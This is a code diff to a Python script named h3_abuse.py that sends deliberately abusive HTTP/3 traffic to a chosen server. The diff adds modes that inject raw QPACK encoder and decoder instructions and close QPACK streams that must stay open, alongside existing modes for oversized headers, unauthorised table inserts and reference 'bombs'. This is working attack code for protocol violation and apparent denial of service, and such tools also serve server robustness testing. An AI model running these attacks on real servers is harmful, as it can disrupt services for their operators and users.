@@ -6,6 +6,9 @@
     h3_abuse.py header HOST:PORT MIB       says that its header has that many MiB, and sends them
     h3_abuse.py settings HOST:PORT MIB     the same of a frame on the control stream
     h3_abuse.py insert HOST:PORT COUNT     puts COUNT fields into a QPACK table that it was not given
+    h3_abuse.py encoder HOST:PORT HEX      instructions of QPACK; with a `?` behind them a request follows
+    h3_abuse.py decoder HOST:PORT HEX      the same on the decoder's stream
+    h3_abuse.py closes HOST:PORT encoder   ends one of QPACK's streams, which must stay open
     h3_abuse.py bomb HOST:PORT COUNT       a header block of COUNT references to fields that nobody put in
 
 `ended` is `closed` where the connection ended, `reset` or `answered` where only the stream did, `open` where neither did.
@@ -29,6 +32,8 @@ REQUEST_CANCELLED = 0x10C
 HEADERS, SETTINGS = 1, 4
 # What is written before the transport is given its turn.
 PIECE = 64 << 10
+# Modes whose word is no number.
+WORDS = ("window", "encoder", "decoder", "closes")
 # Frames of a packet.
 PINGS = 500
 
@@ -132,6 +137,24 @@ class Client(QuicConnectionProtocol):
         self._quic.send_stream_data(self.http._local_encoder_stream_id, b"\x3f\xe1\x1f" + one * count)
         self.transmit()
 
+    async def instruct(self, number, word):
+        self._quic.send_stream_data(number, bytes.fromhex(word.rstrip("?")))
+        if word.endswith("?"):
+            # Answered, so the instructions have come.
+            await self.ping()
+            await self.window("/name")
+        self.transmit()
+
+    async def encoder(self, word):
+        await self.instruct(self.http._local_encoder_stream_id, word)
+
+    async def decoder(self, word):
+        await self.instruct(self.http._local_decoder_stream_id, word)
+
+    async def closes(self, which):
+        self._quic.send_stream_data(getattr(self.http, f"_local_{which}_stream_id"), b"", end_stream=True)
+        self.transmit()
+
     async def bomb(self, count):
         self.stream = self.open()
         # A prefix that requires one insert, and indexed fields of the dynamic table (RFC 9204 sections 4.5.1 and 4.5.2).
@@ -147,7 +170,7 @@ async def main(mode, authority, word):
     config.verify_mode = ssl.CERT_NONE
     config.idle_timeout = PATIENCE
     async with connect(host, int(port), configuration=config, create_protocol=Client) as client:
-        doing = asyncio.ensure_future(getattr(client, mode)(word if mode == "window" else int(word)))
+        doing = asyncio.ensure_future(getattr(client, mode)(word if mode in WORDS else int(word)))
         try:
             how = await asyncio.wait_for(asyncio.shield(client.over), PATIENCE)
         except asyncio.TimeoutError:
